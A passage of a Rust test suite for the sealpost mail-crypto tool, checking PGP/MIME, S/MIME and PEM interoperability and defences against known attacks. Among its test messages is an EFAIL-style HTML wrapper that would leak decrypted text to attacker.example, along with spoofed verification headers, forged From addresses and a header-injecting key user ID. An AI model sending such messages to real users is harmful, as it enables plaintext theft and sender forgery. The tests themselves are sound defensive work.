//! Whole messages through `sealpost mail`, checked by independent tools:
//!
//! - PGP/MIME: what we sign, gpg verifies over the part Python's `email` package extracts; a
//!   multipart/signed built around a gpg detached signature verifies here; what we sign and encrypt, gpg
//!   decrypts (with the protected header fields inside and a good signature); what gpg signs and encrypts,
//!   wrapped as multipart/encrypted, we decrypt, restoring the protected Subject;
//! - S/MIME: `openssl smime -verify`/`-decrypt` accept our messages, we accept `openssl smime -sign -text` and
//!   `-encrypt`;
//! - SECURITY-CASES A2 (an encrypted part between attacker parts is not decrypted), B3 (only the envelope
//!   counts as signed), B4 (a signer who is not the From address is reported), B5 (text around an inline
//!   signature is not signed), C (spoofed verification headers removed in every form);
//! - every message in `../shared/vectors/mime/` parses, and the two real signed ones verify as far as their
//!   keys allow.

#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::gpg::Gpg;
use common::{peer, run, run_ok, scratch, vectors};

fn sealpost() -> Command {
    Command::new(env!("CARGO_BIN_EXE_sealpost"))
}

fn verdict(path: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

const LETTER: &str = "From: Alice <alice@example.org>\nTo: Bob <bob@example.net>\nSubject: the plan\nDate: Mon, 30 Nov 2026 10:00:00 +0000\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nDear Bob,\nthe caf\u{e9} at noon. \nFrom there we walk.\n-- \nAlice\n";

/// Python's `email` package extracts part `index` of a multipart (`as_bytes` with CRLF) or its decoded
/// payload (`payload`).
fn python_part(msg: &Path, index: usize, payload: bool) -> Vec<u8> {
    let script = "import email, email.policy, sys\n\
                  m = email.message_from_binary_file(open(sys.argv[1], 'rb'), policy=email.policy.compat32)\n\
                  p = m.get_payload()[int(sys.argv[2])]\n\
                  if sys.argv[3] == '1':\n    sys.stdout.buffer.write(p.get_payload(decode=True))\n\
                  else:\n    sys.stdout.buffer.write(p.as_bytes(policy=email.policy.compat32.clone(linesep='\\r\\n')))\n";
    let out = run_ok(Command::new("python3").args(["-c", script]).arg(msg).arg(index.to_string()).arg(if payload {
        "1"
    } else {
        "0"
    }));
    out.stdout
}

fn gpg_setup(test: &str) -> Option<(Gpg, PathBuf, [PathBuf; 4])> {
    let bin = peer(test, "gpg")?;
    peer(test, "python3")?;
    let dir = scratch(test);
    let gpg = Gpg::new(&bin);
    let (acert, akey) = gpg.generate("Alice <alice@example.org>", &dir, "alice");
    let (bcert, bkey) = gpg.generate("Bob <bob@example.net>", &dir, "bob");
    std::fs::write(dir.join("letter.eml"), LETTER).unwrap();
    Some((gpg, dir, [acert, akey, bcert, bkey]))
}

#[test]
fn pgp_mime_both_ways_with_gpg() {
    const TEST: &str = "pgp_mime_both_ways_with_gpg";
    let Some((gpg, dir, [acert, akey, bcert, bkey])) = gpg_setup(TEST) else { return };
    let letter = dir.join("letter.eml");

    // We sign; gpg verifies over the part Python extracts.
    let signed = dir.join("signed.eml");
    run_ok(
        sealpost().args(["mail", "sign", "--format", "pgp", "--key"]).arg(&akey).arg("-o").arg(&signed).arg(&letter),
    );
    let text = std::fs::read_to_string(&signed).unwrap();
    assert!(text.contains("multipart/signed; micalg=pgp-sha256;") && text.is_ascii(), "{text}");
    assert!(text.split("\r\n").all(|l| l.len() <= 78), "short lines");
    let (part, sig) = (dir.join("part"), dir.join("part.asc"));
    std::fs::write(&part, python_part(&signed, 0, false)).unwrap();
    std::fs::write(&sig, python_part(&signed, 1, true)).unwrap();
    let out = run_ok(gpg.cmd().args(["--status-fd", "1", "--verify"]).arg(&sig).arg(&part));
    assert!(String::from_utf8_lossy(&out.stdout).contains("[GNUPG:] GOODSIG"), "gpg verifies our PGP/MIME signature");
    let json = dir.join("v.json");
    run_ok(sealpost().args(["mail", "verify", "--cert"]).arg(&acert).arg("--verdict-json").arg(&json).arg(&signed));
    let v = verdict(&json);
    assert_eq!(
        (v["status"].as_str(), v["from"].as_str(), v["part"].as_str()),
        (Some("pass"), Some("match"), Some("whole"))
    );
    // One changed character in the signed text.
    let tampered = dir.join("tampered.eml");
    std::fs::write(&tampered, text.replacen("at noon", "at nine", 1)).unwrap();
    let o = run(sealpost().args(["mail", "verify", "--cert"]).arg(&acert).arg(&tampered));
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stdout).starts_with("Sealpost-Verification: "), "the message is still written");
    assert!(String::from_utf8_lossy(&o.stdout).contains("status=fail"));

    // gpg signs a part; the multipart/signed around it verifies here.
    let entity = "Content-Type: text/plain; charset=us-ascii\r\n\r\nSigned by gpg.\r\n";
    std::fs::write(dir.join("entity"), entity).unwrap();
    run_ok(
        gpg.cmd()
            .args(["--local-user", "alice@example.org", "--digest-algo", "SHA256", "--armor", "--detach-sign", "-o"])
            .arg(dir.join("entity.asc"))
            .arg(dir.join("entity")),
    );
    let gsig = std::fs::read_to_string(dir.join("entity.asc")).unwrap().replace("\r\n", "\n").replace('\n', "\r\n");
    let msg = format!(
        "From: alice@example.org\r\nSubject: from gpg\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol=\"application/pgp-signature\"; boundary=\"gpgb\"\r\n\r\n--gpgb\r\n{entity}\r\n--gpgb\r\nContent-Type: application/pgp-signature\r\n\r\n{gsig}\r\n--gpgb--\r\n"
    );
    let gmsg = dir.join("gpg-signed.eml");
    std::fs::write(&gmsg, msg).unwrap();
    run_ok(sealpost().args(["mail", "verify", "--cert"]).arg(&acert).arg("--verdict-json").arg(&json).arg(&gmsg));
    assert_eq!(verdict(&json)["status"], "pass");

    // We sign and encrypt; gpg decrypts the armored part and finds the protected fields and a good signature.
    let enc = dir.join("encrypted.eml");
    run_ok(
        sealpost()
            .args(["mail", "sign-encrypt", "--format", "pgp", "--key"])
            .arg(&akey)
            .arg("--recipient")
            .arg(&bcert)
            .arg("-o")
            .arg(&enc)
            .arg(&letter),
    );
    let etext = std::fs::read_to_string(&enc).unwrap();
    assert!(etext.contains("Subject: [...]\r\n") && !etext.contains("the plan"), "the Subject is obscured outside");
    std::fs::write(dir.join("enc.asc"), python_part(&enc, 1, true)).unwrap();
    let out = run_ok(gpg.cmd().args(["--status-fd", "2", "--decrypt"]).arg(dir.join("enc.asc")));
    let inner = String::from_utf8_lossy(&out.stdout);
    assert!(String::from_utf8_lossy(&out.stderr).contains("[GNUPG:] GOODSIG"));
    assert!(
        inner.contains("Subject: the plan\r\n") && inner.contains("hp=\"cipher\"") && inner.contains("caf=C3=A9"),
        "{inner}"
    );
    // And we decrypt our own, restoring the Subject.
    let o = run_ok(
        sealpost()
            .args(["mail", "decrypt", "--key"])
            .arg(&bkey)
            .arg("--cert")
            .arg(&acert)
            .arg("--verdict-json")
            .arg(&json)
            .arg(&enc),
    );
    let dec = String::from_utf8_lossy(&o.stdout);
    assert!(dec.contains("Subject: the plan\r\n") && !dec.contains("[...]"), "{dec}");
    let v = verdict(&json);
    assert_eq!(
        (v["status"].as_str(), v["encrypted"].as_bool(), v["integrity"].as_str()),
        (Some("pass"), Some(true), Some("mdc"))
    );

    // gpg signs and encrypts an entity; wrapped as PGP/MIME, we decrypt it.
    let inner = "Subject: secret plan\r\nContent-Type: text/plain\r\n\r\nfrom gpg, encrypted\r\n";
    std::fs::write(dir.join("inner"), inner).unwrap();
    run_ok(
        gpg.cmd()
            .args([
                "--local-user",
                "alice@example.org",
                "--recipient",
                "bob@example.net",
                "--armor",
                "--sign",
                "--encrypt",
                "-o",
            ])
            .arg(dir.join("inner.asc"))
            .arg(dir.join("inner")),
    );
    let armored = std::fs::read_to_string(dir.join("inner.asc")).unwrap().replace('\n', "\r\n");
    let msg = format!(
        "From: Alice <alice@example.org>\r\nSubject: ...\r\nMIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--e--\r\n"
    );
    let gmsg = dir.join("gpg-encrypted.eml");
    std::fs::write(&gmsg, msg).unwrap();
    let o = run_ok(
        sealpost()
            .args(["mail", "decrypt", "--key"])
            .arg(&bkey)
            .arg("--cert")
            .arg(&acert)
            .arg("--verdict-json")
            .arg(&json)
            .arg(&gmsg),
    );
    let dec = String::from_utf8_lossy(&o.stdout);
    assert!(dec.contains("Subject: secret plan\r\n") && dec.contains("from gpg, encrypted"), "{dec}");
    assert_eq!(verdict(&json)["status"], "pass");
}

#[test]
fn smime_both_ways_with_openssl() {
    const TEST: &str = "smime_both_ways_with_openssl";
    let Some(openssl) = peer(TEST, "openssl") else { return };
    let dir = scratch(TEST);
    let keygen = |args: &[&str], out: &str| {
        run_ok(sealpost().args(["key", "generate", "--type", "x509"]).args(args).arg("--output").arg(dir.join(out)));
    };
    keygen(&["--ca", "--uid", "Mail CA"], "ca");
    let (ca_cert, ca_key) = (dir.join("ca.cert").display().to_string(), dir.join("ca.key").display().to_string());
    let issuer = ["--issuer-cert", ca_cert.as_str(), "--issuer-key", ca_key.as_str()];
    keygen(&[&["--uid", "Alice <alice@example.org>"][..], &issuer].concat(), "alice");
    keygen(&[&["--uid", "Bob <bob@example.net>"][..], &issuer].concat(), "bob");
    let p = |n: &str| dir.join(n);
    let letter = p("letter.eml");
    std::fs::write(&letter, LETTER).unwrap();

    // We sign; openssl verifies and gets the signed entity with the protected fields.
    let signed = p("signed.eml");
    run_ok(
        sealpost()
            .args(["mail", "sign", "--format", "smime", "--key"])
            .arg(p("alice.key"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("-o")
            .arg(&signed)
            .arg(&letter),
    );
    let out =
        run_ok(Command::new(&openssl).args(["smime", "-verify", "-CAfile"]).arg(p("ca.cert")).arg("-in").arg(&signed));
    let content = String::from_utf8_lossy(&out.stdout);
    assert!(content.contains("Subject: the plan") && content.contains("hp=\"clear\""), "{content}");
    let json = p("v.json");
    run_ok(sealpost().args(["mail", "verify", "--ca"]).arg(p("ca.cert")).arg("--verdict-json").arg(&json).arg(&signed));
    let v = verdict(&json);
    assert_eq!((v["status"].as_str(), v["from"].as_str()), (Some("pass"), Some("match")), "{v}");

    // openssl signs (-text); we verify.
    std::fs::write(p("plain.txt"), "hello from openssl\n").unwrap();
    let osigned = p("openssl-signed.eml");
    run_ok(
        Command::new(&openssl)
            .args(["smime", "-sign", "-text", "-in"])
            .arg(p("plain.txt"))
            .arg("-signer")
            .arg(p("alice.cert"))
            .arg("-inkey")
            .arg(p("alice.key"))
            .arg("-out")
            .arg(&osigned),
    );
    run_ok(
        sealpost().args(["mail", "verify", "--ca"]).arg(p("ca.cert")).arg("--verdict-json").arg(&json).arg(&osigned),
    );
    assert_eq!(verdict(&json)["status"], "pass");
    // Without the CA: the signature is checked, the verdict says the path was not.
    run_ok(sealpost().args(["mail", "verify", "--verdict-json"]).arg(&json).arg(&osigned));
    assert!(verdict(&json)["notes"].to_string().contains("path was not checked"));

    // We sign and encrypt; openssl decrypts and verifies the inner signature.
    let enc = p("encrypted.eml");
    run_ok(
        sealpost()
            .args(["mail", "sign-encrypt", "--format", "smime", "--key"])
            .arg(p("alice.key"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("--recipient")
            .arg(p("bob.cert"))
            .arg("-o")
            .arg(&enc)
            .arg(&letter),
    );
    run_ok(
        Command::new(&openssl)
            .args(["smime", "-decrypt", "-in"])
            .arg(&enc)
            .arg("-recip")
            .arg(p("bob.cert"))
            .arg("-inkey")
            .arg(p("bob.key"))
            .arg("-out")
            .arg(p("dec.eml")),
    );
    let out = run_ok(
        Command::new(&openssl).args(["smime", "-verify", "-CAfile"]).arg(p("ca.cert")).arg("-in").arg(p("dec.eml")),
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("Subject: the plan"));
    // We decrypt ours: Subject restored, signature good.
    let o = run_ok(
        sealpost()
            .args(["mail", "decrypt", "--key"])
            .arg(p("bob.key"))
            .arg("--own-cert")
            .arg(p("bob.cert"))
            .arg("--ca")
            .arg(p("ca.cert"))
            .arg("--verdict-json")
            .arg(&json)
            .arg(&enc),
    );
    let dec = String::from_utf8_lossy(&o.stdout);
    assert!(dec.contains("Subject: the plan\r\n") && !dec.contains("[...]"), "{dec}");
    let v = verdict(&json);
    assert_eq!((v["signers"][0]["status"].as_str(), v["encrypted"].as_bool()), (Some("good"), Some(true)), "{v}");

    // openssl encrypts; we decrypt.
    let oenc = p("openssl-encrypted.eml");
    std::fs::write(p("entity.txt"), "Content-Type: text/plain\r\n\r\nsecret from openssl\r\n").unwrap();
    run_ok(
        Command::new(&openssl)
            .args(["smime", "-encrypt", "-aes256", "-in"])
            .arg(p("entity.txt"))
            .arg("-out")
            .arg(&oenc)
            .arg(p("bob.cert")),
    );
    let o = run_ok(
        sealpost().args(["mail", "decrypt", "--key"]).arg(p("bob.key")).arg("--own-cert").arg(p("bob.cert")).arg(&oenc),
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("secret from openssl"));
    // Opaque signed-data: openssl verifies it, and so do we.
    let opaque = p("opaque.eml");
    run_ok(
        sealpost()
            .args(["mail", "sign", "--format", "smime", "--opaque", "--key"])
            .arg(p("alice.key"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("-o")
            .arg(&opaque)
            .arg(&letter),
    );
    assert!(std::fs::read_to_string(&opaque).unwrap().contains("smime-type=signed-data"));
    let out =
        run_ok(Command::new(&openssl).args(["smime", "-verify", "-CAfile"]).arg(p("ca.cert")).arg("-in").arg(&opaque));
    assert!(String::from_utf8_lossy(&out.stdout).contains("Subject: the plan"));
    let o = run_ok(
        sealpost().args(["mail", "verify", "--ca"]).arg(p("ca.cert")).arg("--verdict-json").arg(&json).arg(&opaque),
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("the caf=C3=A9 at noon"));
    assert_eq!(verdict(&json)["status"], "pass");
    // AES-GCM: AuthEnvelopedData, which `openssl cms` decrypts.
    let gcm = p("gcm.eml");
    run_ok(
        sealpost()
            .args(["mail", "encrypt", "--format", "smime", "--cipher", "aes256-gcm", "--recipient"])
            .arg(p("bob.cert"))
            .arg("-o")
            .arg(&gcm)
            .arg(&letter),
    );
    assert!(std::fs::read_to_string(&gcm).unwrap().contains("smime-type=authEnveloped-data"));
    let out = run_ok(
        Command::new(&openssl)
            .args(["cms", "-decrypt", "-in"])
            .arg(&gcm)
            .arg("-recip")
            .arg(p("bob.cert"))
            .arg("-inkey")
            .arg(p("bob.key")),
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("Subject: the plan"));
    run_ok(
        sealpost()
            .args(["mail", "decrypt", "--key"])
            .arg(p("bob.key"))
            .arg("--own-cert")
            .arg(p("bob.cert"))
            .arg("--verdict-json")
            .arg(&json)
            .arg(&gcm),
    );
    assert_eq!(verdict(&json)["integrity"], "aead");

    // Alice's key is not Bob's: exit 1, nothing decrypted.
    let o = run(sealpost()
        .args(["mail", "decrypt", "--key"])
        .arg(p("alice.key"))
        .arg("--own-cert")
        .arg(p("alice.cert"))
        .arg(&oenc));
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("secret from openssl") && out.contains("status=fail"), "{out}");
}

#[test]
fn security_cases_envelope_sender_and_spoofed_headers() {
    const TEST: &str = "security_cases_envelope_sender_and_spoofed_headers";
    let Some((_gpg, dir, [acert, akey, bcert, bkey])) = gpg_setup(TEST) else { return };
    let p = |n: &str| dir.join(n);
    let json = p("v.json");
    // A signed part and an encrypted part to embed.
    let part_src = p("part.eml");
    std::fs::write(
        &part_src,
        "From: Alice <alice@example.org>\nSubject: s\nContent-Type: text/plain\n\nsigned words\n",
    )
    .unwrap();
    run_ok(
        sealpost()
            .args(["mail", "sign", "--format", "pgp", "--key"])
            .arg(&akey)
            .arg("-o")
            .arg(p("signed.eml"))
            .arg(&part_src),
    );
    run_ok(
        sealpost()
            .args(["mail", "encrypt", "--format", "pgp", "--recipient"])
            .arg(&bcert)
            .arg("-o")
            .arg(p("enc.eml"))
            .arg(&part_src),
    );
    let entity_of = |f: &str| {
        let t = std::fs::read_to_string(p(f)).unwrap();
        let at = t.find("Content-Type: multipart/").unwrap();
        t[at..].to_string()
    };

    // B3: attacker text around a validly signed part: partially-signed, the part named.
    let b3 = format!(
        "From: Alice <alice@example.org>\r\nSubject: pay\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nPlease pay Mallory.\r\n--m\r\n{}\r\n--m--\r\n",
        entity_of("signed.eml")
    );
    std::fs::write(p("b3.eml"), b3).unwrap();
    let o = run(sealpost()
        .args(["mail", "verify", "--cert"])
        .arg(&acert)
        .arg("--verdict-json")
        .arg(&json)
        .arg(p("b3.eml")));
    assert_eq!(o.status.code(), Some(1), "not signed as a whole");
    let v = verdict(&json);
    assert_eq!((v["status"].as_str(), v["part"].as_str()), (Some("partially-signed"), Some("2")), "{v}");
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("status=partially-signed")
            && String::from_utf8_lossy(&o.stdout).contains("part=2")
    );

    // A2: an encrypted part between attacker HTML parts is not decrypted.
    let a2 = format!(
        "From: Alice <alice@example.org>\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n--m\r\n{}\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n",
        entity_of("enc.eml")
    );
    std::fs::write(p("a2.eml"), &a2).unwrap();
    let o =
        run(sealpost().args(["mail", "decrypt", "--key"]).arg(&bkey).arg("--verdict-json").arg(&json).arg(p("a2.eml")));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("signed words"), "no decrypted text next to attacker parts: {out}");
    assert!(out.contains("-----BEGIN PGP MESSAGE-----"), "the part is left as it was");
    assert!(verdict(&json)["notes"].to_string().contains("was not decrypted"));

    // B4: a good signature by Alice on a message From Bob.
    let b4 = std::fs::read_to_string(p("signed.eml")).unwrap().replacen(
        "From: Alice <alice@example.org>",
        "From: Bob <bob@example.net>",
        1,
    );
    std::fs::write(p("b4.eml"), b4).unwrap();
    let o = run(sealpost()
        .args(["mail", "verify", "--cert"])
        .arg(&acert)
        .arg("--verdict-json")
        .arg(&json)
        .arg(p("b4.eml")));
    let v = verdict(&json);
    assert_eq!((v["status"].as_str(), v["from"].as_str()), (Some("pass"), Some("mismatch")), "{v}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("from=mismatch"));
    assert!(v["notes"].to_string().contains("not the sender"));

    // B5: unsigned text before an inline cleartext signature.
    std::fs::write(p("clear.txt"), "signed line\n").unwrap();
    run_ok(
        sealpost()
            .args(["pgp", "sign", "--cleartext", "--key"])
            .arg(&akey)
            .arg("-o")
            .arg(p("clear.asc"))
            .arg(p("clear.txt")),
    );
    let b5 = format!(
        "From: Alice <alice@example.org>\r\nSubject: inline\r\nContent-Type: text/plain\r\n\r\nUNSIGNED: wire the money\r\n{}",
        std::fs::read_to_string(p("clear.asc")).unwrap().replace('\n', "\r\n")
    );
    std::fs::write(p("b5.eml"), b5).unwrap();
    let _ = run(sealpost()
        .args(["mail", "verify", "--cert"])
        .arg(&acert)
        .arg("--verdict-json")
        .arg(&json)
        .arg(p("b5.eml")));
    let v = verdict(&json);
    assert_eq!(v["status"], "partially-signed", "{v}");
    // And the same inline signature alone is whole.
    let whole = format!(
        "From: Alice <alice@example.org>\r\nContent-Type: text/plain\r\n\r\n{}",
        std::fs::read_to_string(p("clear.asc")).unwrap()
    );
    std::fs::write(p("b5-whole.eml"), whole).unwrap();
    run_ok(
        sealpost()
            .args(["mail", "verify", "--cert"])
            .arg(&acert)
            .arg("--verdict-json")
            .arg(&json)
            .arg(p("b5-whole.eml")),
    );
    assert_eq!(verdict(&json)["status"], "pass");

    // C: spoofed verification headers, in several forms, are gone; ours is the only one.
    let spoof = format!(
        "Sealpost-Verification: mx.test; status=pass\r\nSEALPOST-VERIFICATION:\r\n mx.test; status=pass\r\nX-Sealpost-Verification: pass\r\nAuthentication-Results: =?us-ascii?q?mx=2Etest?=; sealpost=pass\r\nAuthentication-Results: other.example; dkim=pass\r\n{}",
        std::fs::read_to_string(p("b4.eml")).unwrap()
    );
    std::fs::write(p("c.eml"), spoof).unwrap();
    let o = run(sealpost().args(["mail", "verify", "--authserv-id", "mx.test", "--cert"]).arg(&acert).arg(p("c.eml")));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.to_ascii_lowercase().matches("sealpost-verification").count(), 1, "{out}");
    assert!(out.starts_with("Sealpost-Verification: mx.test; format=pgp; status=pass;"));
    assert!(
        out.contains("Authentication-Results: other.example; dkim=pass")
            && out.matches("Authentication-Results").count() == 1
    );
}

#[test]
fn every_mime_vector_parses_and_the_signed_ones_verify() {
    const TEST: &str = "every_mime_vector_parses_and_the_signed_ones_verify";
    let Some(vec) = vectors(TEST) else { return };
    let dir = scratch(TEST);
    let json = dir.join("v.json");
    let mut files: Vec<PathBuf> = Vec::new();
    for sub in ["mime/mimekit", "mime/mail-parser/rfc", "mime/mail-parser/thirdparty", "mime/mail-parser/malformed"] {
        for e in std::fs::read_dir(vec.join(sub)).unwrap() {
            let path = e.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().to_string();
            if name.ends_with(".eml") || (name.ends_with(".txt") && !name.starts_with("LICENSE")) {
                files.push(path);
            }
        }
    }
    files.sort();
    assert!(files.len() >= 15, "{files:?}");
    for f in &files {
        let _ = std::fs::remove_file(&json);
        let o =
            run(sealpost().args(["mail", "verify", "--authserv-id", "mx.test", "--verdict-json"]).arg(&json).arg(f));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(matches!(o.status.code(), Some(0 | 1)), "{}: {err}", f.display());
        assert!(!err.contains("panicked"), "{}", f.display());
        assert!(String::from_utf8_lossy(&o.stdout).starts_with("Sealpost-Verification: mx.test;"), "{}", f.display());
        let v = verdict(&json);
        let name = f.file_name().unwrap().to_string_lossy();
        if name == "thunderbird-24-smime-signed.txt" {
            // A real Thunderbird signature (SHA-1); its expired StartCom chain is not checked without --ca.
            assert_eq!(v["status"], "pass-weak", "{v}");
            assert_eq!(v["signers"][0]["hash"], "sha1");
        } else if name == "gnupg-2.1.20-announce-pgpmime-signed.eml" {
            // The signer's key is not included: the structure is read and the signer named as unknown.
            assert_eq!(v["status"], "unknown-signer", "{v}");
        }
    }
}

/// Without `--key` and `--recipient`, `mail` looks the sender's and recipients' keys up in the keystore by
/// the message's From, To and Cc addresses (in any case).
#[test]
fn mail_commands_use_the_keystore() {
    const TEST: &str = "mail_commands_use_the_keystore";
    let Some((_gpg, dir, [acert, akey, bcert, bkey])) = gpg_setup(TEST) else { return };
    let ks = dir.join("keystore");
    run_ok(sealpost().arg("--keystore").arg(&ks).args(["key", "import"]).arg(&akey).arg(&bkey).arg(&acert).arg(&bcert));
    let letter = LETTER.replace("To: Bob <bob@example.net>", "To: Bob <BOB@Example.NET>");
    std::fs::write(dir.join("letter.eml"), letter).unwrap();
    let enc = dir.join("enc.eml");
    run_ok(
        sealpost()
            .arg("--keystore")
            .arg(&ks)
            .args(["mail", "sign-encrypt", "--format", "pgp", "-o"])
            .arg(&enc)
            .arg(dir.join("letter.eml")),
    );
    let json = dir.join("v.json");
    let o =
        run_ok(sealpost().arg("--keystore").arg(&ks).args(["mail", "decrypt", "--verdict-json"]).arg(&json).arg(&enc));
    assert!(String::from_utf8_lossy(&o.stdout).contains("Subject: the plan"));
    let v = verdict(&json);
    assert_eq!((v["status"].as_str(), v["from"].as_str()), (Some("pass"), Some("match")), "{v}");
    // A recipient the keystore does not know: exit 1, naming the address.
    std::fs::write(dir.join("carol.eml"), LETTER.replace("To: Bob <bob@example.net>", "To: carol@example.com"))
        .unwrap();
    let o = run(sealpost()
        .arg("--keystore")
        .arg(&ks)
        .args(["mail", "encrypt", "--format", "pgp"])
        .arg(dir.join("carol.eml")));
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("carol@example.com"));
}

/// More of SECURITY-CASES A2, B2, B3 and B4: a signed message attached as message/rfc822 does not sign the
/// outer one; a multipart/signed without its closing boundary fails; an encrypted part inside an attached
/// message is not decrypted and the header says `encrypted=partial`; a display name that looks like an
/// address, a second From address, and an outer From that differs from the signed one are mismatches; a
/// user ID with a line break cannot add a header.
#[test]
fn attached_messages_cut_boundaries_and_from_tricks() {
    const TEST: &str = "attached_messages_cut_boundaries_and_from_tricks";
    let Some((_gpg, dir, [acert, akey, bcert, bkey])) = gpg_setup(TEST) else { return };
    let p = |n: &str| dir.join(n);
    let json = p("v.json");
    run_ok(
        sealpost()
            .args(["mail", "sign", "--format", "pgp", "--key"])
            .arg(&akey)
            .arg("-o")
            .arg(p("signed.eml"))
            .arg(p("letter.eml")),
    );
    run_ok(
        sealpost()
            .args(["mail", "encrypt", "--format", "pgp", "--recipient"])
            .arg(&bcert)
            .arg("-o")
            .arg(p("enc.eml"))
            .arg(p("letter.eml")),
    );
    let signed = std::fs::read_to_string(p("signed.eml")).unwrap();
    let verify = |name: &str, text: &str| -> (Option<i32>, serde_json::Value, String) {
        std::fs::write(p(name), text).unwrap();
        let o = run(sealpost()
            .args(["mail", "verify", "--authserv-id", "mx.test", "--cert"])
            .arg(&acert)
            .arg("--verdict-json")
            .arg(&json)
            .arg(p(name)));
        (o.status.code(), verdict(&json), String::from_utf8_lossy(&o.stdout).into_owned())
    };

    // The signed message forwarded as an attachment.
    let forwarded = format!(
        "From: Mallory <m@evil.example>\r\nSubject: fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"f\"\r\n\r\n--f\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--f\r\nContent-Type: message/rfc822\r\n\r\n{signed}\r\n--f--\r\n"
    );
    let (code, v, _) = verify("forwarded.eml", &forwarded);
    assert_eq!((code, v["status"].as_str()), (Some(1), Some("no-signature")), "{v}");

    // Cut before the closing boundary.
    let cut = &signed[..signed.rfind("--\r\n").unwrap()];
    let (code, v, out) = verify("cut.eml", cut);
    assert_eq!((code, v["status"].as_str()), (Some(1), Some("fail")), "{v}");
    assert!(v["failure"].to_string().contains("closing boundary") && out.contains("status=fail"));

    // An encrypted message attached: left encrypted, reported as partial encryption.
    let enc = std::fs::read_to_string(p("enc.eml")).unwrap();
    let attached = format!(
        "From: Alice <alice@example.org>\r\nSubject: att\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"f\"\r\n\r\n--f\r\nContent-Type: text/plain\r\n\r\nhere\r\n--f\r\nContent-Type: message/rfc822\r\n\r\n{enc}\r\n--f--\r\n"
    );
    std::fs::write(p("attached.eml"), &attached).unwrap();
    let o = run(sealpost()
        .args(["mail", "decrypt", "--authserv-id", "mx.test", "--key"])
        .arg(&bkey)
        .arg("--verdict-json")
        .arg(&json)
        .arg(p("attached.eml")));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("encrypted=partial") && !out.contains("From there we walk"), "{out}");
    assert_eq!(verdict(&json)["partially_encrypted"], true);

    // From tricks on a good signature by Alice.
    for (label, from) in [
        ("display name", "\"alice@example.org\" <m@evil.example>"),
        ("two addresses", "alice@example.org, m@evil.example"),
    ] {
        let (_, v, out) =
            verify("from.eml", &signed.replacen("From: Alice <alice@example.org>", &format!("From: {from}"), 1));
        assert_eq!(v["from"], "mismatch", "{label}: {v}");
        assert!(out.contains("from=mismatch"), "{label}");
    }
    // Case and IDN variants of the signer's own address still match.
    let (_, v, _) =
        verify("case.eml", &signed.replacen("From: Alice <alice@example.org>", "From: Alice <ALICE@Example.ORG>", 1));
    assert_eq!(v["from"], "match", "{v}");

    // A key whose user ID has a line break in it: no header can come of it.
    let uid = "Eve\r\nX-Verified: pass <eve@example.org>";
    let generated = run(sealpost().args(["key", "generate", "--type", "pgp", "--uid", uid, "--output"]).arg(p("eve")));
    if generated.status.success() {
        run_ok(
            sealpost()
                .args(["mail", "sign", "--format", "pgp", "--key"])
                .arg(p("eve.key"))
                .arg("-o")
                .arg(p("eve.eml"))
                .arg(p("letter.eml")),
        );
        let o = run(sealpost().args(["mail", "verify", "--cert"]).arg(p("eve.cert")).arg(p("eve.eml")));
        let out = String::from_utf8_lossy(&o.stdout);
        let header = &out[..out.find("\r\n\r\n").unwrap()];
        assert!(!header.lines().any(|l| l.starts_with("X-Verified")), "{header}");
    } else {
        // Refusing such a user ID outright is as good.
        assert_eq!(generated.status.code(), Some(2));
    }
}

/// PEM mail: MIC-CLEAR and ENCRYPTED RFC 1421 messages in a text body around the canonical entity; the
/// entity (and the protected Subject) come back on verification and decryption.
#[test]
fn pem_mail_round_trips() {
    let dir = scratch("pem_mail_round_trips");
    let p = |n: &str| dir.join(n);
    for who in ["alice", "bob"] {
        run_ok(
            sealpost()
                .args(["key", "generate", "--type", "x509", "--uid", &format!("{who} <{who}@example.org>"), "--output"])
                .arg(p(who)),
        );
    }
    std::fs::write(p("letter.eml"), LETTER.replace("bob@example.net", "bob@example.org")).unwrap();
    let json = p("v.json");
    run_ok(
        sealpost()
            .args(["mail", "sign", "--format", "pem", "--key"])
            .arg(p("alice.key"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("-o")
            .arg(p("s.eml"))
            .arg(p("letter.eml")),
    );
    let s = std::fs::read_to_string(p("s.eml")).unwrap();
